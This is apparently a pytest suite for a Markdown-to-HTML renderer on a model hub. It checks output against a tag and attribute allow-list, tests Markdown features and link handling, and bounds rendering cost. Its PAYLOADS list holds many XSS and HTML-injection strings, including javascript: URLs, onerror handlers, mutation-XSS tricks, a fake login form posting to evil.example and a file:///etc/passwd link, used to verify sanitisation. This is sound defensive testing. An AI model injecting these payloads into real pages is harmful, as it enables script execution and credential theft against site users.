"""Markdown: what becomes of it, that nothing in it can act in a page, and that no short text takes long or much."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from openhood.base.names import RepoType
from openhood.engines import markup
from openhood.engines.markup import Reference, mentions, references, render

# --- what may stand in a page --------------------------------------------------------------

_TAGS = frozenset(
    """
    a abbr audio b blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption
    figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture pre q rp rt ruby s samp section small source
    span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var video wbr
    """.split()  # noqa: SIM905
)
_ATTRIBUTES = frozenset(
    """
    align alt aria-label checked class colspan controls dir disabled height href id lang loading loop muted name open poster
    preload referrerpolicy rel reversed rowspan scope span src start title type valign value width
    """.split()  # noqa: SIM905
)
_URL = re.compile(r"(?:https?:|mailto:|[^\x00-\x20\\:]*$|[/#?.])", re.I)


class Judge(HTMLParser):
    """Reads HTML as a browser roughly does, and notes what must not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.found.append(f"<{tag}>")
        given = dict(attrs)
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "poster"):
                text = value or ""
                if not _URL.match(text) or any(ord(each) < 0x21 for each in text) or "\\" in text:
                    self.found.append(f"{name}={value}")
                if name != "href" and text.lower().startswith("mailto:"):
                    self.found.append(f"{name}={value}")
            if name == "id" and not (value or "").startswith("user-content-"):
                self.found.append(f"id={value}")
        if tag == "a" and given.get("rel") != "nofollow noopener ugc":
            self.found.append("a link without rel")
        if tag == "input" and (given.get("type") != "checkbox" or "disabled" not in given):
            self.found.append("an input that takes something")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def faults(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.found


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='javascript:alert(1)'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=x srcset='javascript:alert(1) 2x'>",
    "<img src=x style='background:url(javascript:alert(1))'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) autoplay></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=javascript:alert(1) onloadstart=alert(1)></audio>",
    "<form action=https://evil.example><input name=password type=password><button>Log in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='jav&#x61;script&colon;alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='x' target=_blank ping=https://evil.example rel=opener>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href=\"https://x\" id=user name=user class='btn modal'>x</a>",
    "<p id=csrf-token>x</p>",
    "<img name=getElementById src=x>",
    "<a id=user-content-x name=location href=#y>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](https://a.example/'onmouseover=alert(1)//)",
    '[x](https://a.example "\'><img src=x onerror=alert(1)>")',
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
    "![x](mailto:a@b.example)",
    "![x](https://a.example/x.png \"a' onload='alert(1)\")",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=\"alert(1)>",
    "https://a.example/\"onmouseover=alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "@<script>alert(1)</script>",
    "@a\"onmouseover=alert(1)",
    "a/b\"onmouseover=alert(1)#1",
    "```html\"onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| <td style='x' onclick=alert(1)>y |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^\"onmouseover=alert(1)]\n\n[^\"onmouseover=alert(1)]: y",
    "- [ ] <input type=text onfocus=alert(1) autofocus>",
    "# <img src=x onerror=alert(1)>",
    "# \"onmouseover=alert(1)",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a href='x'<img src=x onerror=alert(1)>",
    "<p/onclick=alert(1)>x",
    "<b\x00onclick=alert(1)>x",
    "\x00<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "<table><td background=javascript:alert(1)>x",
    "<font color=red face='x' size=7>x</font>",
    "<video controls src=\"/uploads/x.mp4\" onplay=alert(1)></video>",
    "https://hub.example/uploads/x.mp4\"onerror=alert(1)",
    "https://hub.example/uploads/x'.mp4",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_passes(payload: str) -> None:
    for text in (
        payload,
        f"> {payload}",
        f"- {payload}\n  x",
        f"a *{payload}* b",
        f"<div>\n{payload}\n\n{payload}</div>",
    ):
        assert faults(render(text)) == []
        assert (
            faults(render(text, base="/a/m/blob/main/", media_base="/a/m/resolve/main/", repo="/a/m")) == []
        )


def test_the_judge_sees_what_it_should() -> None:
    for bad in (
        "<script>", "<a href=x>", "<img onerror=x>", "<a rel='nofollow noopener ugc' href='javascript:x'>", "<!--x-->",
        "<input>", "<p id=x>", "<img src='data:x'>", "<p style=x>", "<a rel='nofollow noopener ugc' href='/\\x'>",
    ):  # fmt: skip
        assert faults(bad), bad


_PIECES = st.sampled_from(
    [
        *PAYLOADS[:90], "<a href=", "'", '"', ">", "<", "&#", ";", "javascript:", "[x](", ")", "![", "](", "`", "```", "\n",
        "\n\n", "    ", "- ", "> ", "|", "|---|", "<b>", "</b>", "<table>", "</", "<!--", "-->", "*", "_", "\\", "@bob",
        "#1", "a/b#2", "https://x.example/", "[^1]", "[^1]: ", "<svg>", "<math>", "<p", " onclick=x", "=", "\t", "\x00",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=12).map("".join) | st.text(max_size=200))
@example("<a href='/\\\n/x'>")
def test_no_mixture_passes(text: str) -> None:
    html = render(text, repo="/a/m", base="/a/m/blob/main/")
    assert faults(html) == []
    for name in mentions(text):
        assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,94}", name)
    references(text)


# --- what is made of Markdown --------------------------------------------------------------


def test_markdown() -> None:
    html = render(
        "# Hello *you*\n\n~~x~~ **y** `z`\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n1. one\n"
    )
    for piece in (
        '<h1 id="user-content-hello-you">Hello <em>you</em></h1>', "<s>x</s>", "<strong>y</strong>", "<code>z</code>",
        '<th align="left">a</th>', '<td align="right">2</td>', 'type="checkbox"', 'checked="', "<ol>",
    ):  # fmt: skip
        assert piece in html, piece


def test_code_is_coloured_by_classes() -> None:
    html = render('```python\ndef f(): return "<b>"\n```')
    assert '<code class="language-python">' in html
    assert '<span class="hl-k">def</span>' in html
    assert '<span class="hl-s2">"&lt;b&gt;"</span>' in html
    assert render("```klingon\nx < y\n```") == '<pre><code class="language-klingon">x &lt; y\n</code></pre>\n'
    assert "hl-" not in render("```python\n" + "x = 1\n" * 4000 + "```")


def test_what_a_card_may_use() -> None:
    html = render(
        '<p align="center"><img src="a.png" width="200"> <kbd>x</kbd></p>\n<details><summary>More</summary>y</details>'
    )
    assert '<p align="center">' in html
    for piece in ('<img src="a.png" width="200"', ' loading="lazy"', ' referrerpolicy="no-referrer"'):
        assert piece in html
    assert "<details><summary>More</summary>y</details>" in html


def test_footnotes_and_headings_keep_to_themselves() -> None:
    html = render("# Top\n# Top\nx[^1] [up](#top)\n\n[^1]: note", prefix="c1-")
    assert 'id="c1-top"' in html
    assert 'id="c1-top-1"' in html
    assert 'href="#c1-top"' in html
    assert 'href="#c1-fn1" id="c1-fnref1"' in html
    assert 'id="c1-fn1"' in html


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[x](docs/a.md)", 'href="/a/m/blob/main/docs/a.md"'),
        ("[x](../other)", 'href="/a/m/blob/other"'),
        ("[x](/a)", 'href="/a"'),
        ("[x](#y)", 'href="#user-content-y"'),
        ("[x](?y=1)", 'href="?y=1"'),
        ("[x](mailto:a@b.example)", 'href="mailto:a@b.example"'),
        ("![x](i/a.png)", 'src="/a/m/resolve/main/i/a.png"'),
        ("<img src=a.png>", 'src="/a/m/resolve/main/a.png"'),
        ("![x](https://x.example/a.png)", 'src="https://x.example/a.png"'),
    ],
)
def test_addresses(text: str, expected: str) -> None:
    assert expected in render(text, base="/a/m/blob/main/", media_base="/a/m/resolve/main/")


def test_bare_addresses_become_links() -> None:
    html = render("See https://x.example/a_(b), (https://y.example/c) and `https://z.example`.")
    assert (
        '<a href="https://x.example/a_(b)" rel="nofollow noopener ugc">https://x.example/a_(b)</a>,' in html
    )
    assert ">https://y.example/c</a>)" in html
    assert "https://z.example</code>" in html
    assert "<a" not in render("xhttps://x.example")
    # The address of an uploaded film is a player, as in the Hub's pages.
    film = render("https://hub.example/uploads/0123.mp4")
    assert (
        film
        == '<p><video controls="" src="https://hub.example/uploads/0123.mp4" preload="none"></video></p>\n'
    )


def test_mentions_and_references_become_links() -> None:
    html = render("@bob and a/m#3, datasets/a/d#4 and #5", repo="/spaces/a/s")
    for href in ("/bob", "/a/m/discussions/3", "/datasets/a/d/discussions/4", "/spaces/a/s/discussions/5"):
        assert f'href="{href}"' in html
    assert "<a" not in render("#5 x@y.example `@bob` \\@bob 1#2 &#64; a#b")


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("@bob, @Ann-Lee. (@x_y) and @bob again, @BOB", ("bob", "Ann-Lee", "x_y")),
        ("mail a@b.example, `@code`, \\@escaped, [@link](x), @@twice, /@path", ()),
        ("```\n@code\n```\n    @indented\n", ()),
        ("> @quoted\n\n- @listed\n\n| @cell |\n|---|\n", ("quoted", "listed", "cell")),
        ("**@bold** and _@it_", ("bold", "it_"[:2])),
        ("@", ()),
    ],
)
def test_mentions(text: str, names: tuple[str, ...]) -> None:
    assert mentions(text) == names


def test_references() -> None:
    text = (
        "#1, a/m#2, datasets/a/d#3, spaces/a/s#4; #1 again; `#9` [#8](x) x#7 #0 #6x "
        "http://hub.example/a/m/discussions/12#c http://else.example/a/m/discussions/13 "
        "[x](/datasets/a/d/discussions/14) http://hub.example/a/m/discussions/15."
    )
    assert set(references(text, hub_url="http://hub.example")) == {
        Reference(1), Reference(2, RepoType.MODEL, "a/m"), Reference(3, RepoType.DATASET, "a/d"),
        Reference(4, RepoType.SPACE, "a/s"), Reference(12, RepoType.MODEL, "a/m"), Reference(14, RepoType.DATASET, "a/d"),
        Reference(15, RepoType.MODEL, "a/m"),
    }  # fmt: skip


# --- bounds --------------------------------------------------------------------------------

HARD = {
    "one long address named often": "[a]: /" + "u" * 1900 + "\n\n" + "[a]" * 20_000,
    "a title named often": "[a]: /x (" + "u" * 1900 + ")\n\n" + "[a]" * 20_000,
    "many cells of few letters": "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + "x\n" * 20_000,
    "brackets": "[" * 60_000,
    "pictures": "![" * 30_000,
    "comments": "<!--" * 15_000,
    "quotes": ">" * 60_000,
    "stars": "*a_ " * 15_000,
    "elements": "<b>" * 20_000,
    "headings": "# a\n" * 15_000,
    "deep lists": "".join("  " * depth + "- a\n" for depth in range(250)),
    "footnotes": "[^1]" * 15_000 + "\n\n[^1]: x",
    "code": ("```python\n" + "'" * 15_000 + "\n```\n") * 4,
    "names": "a." * 30_000 + "#1",
}


@pytest.mark.parametrize("case", HARD)
def test_no_short_text_becomes_a_huge_page(case: str) -> None:
    text = HARD[case][:65_536]
    assert len(render(text, repo="/a/m")) <= 40 * 65_536
    assert len(mentions("@x " + text)) <= 100
    assert len(references("#1 " + text)) <= 100


def test_a_long_text_is_cut() -> None:
    html = render("x\n" * markup.MAX_CHARS)
    assert html.endswith("<p><em>This text is too long to be shown in full.</em></p>\n")
    assert len(html) < 10 * markup.MAX_CHARS
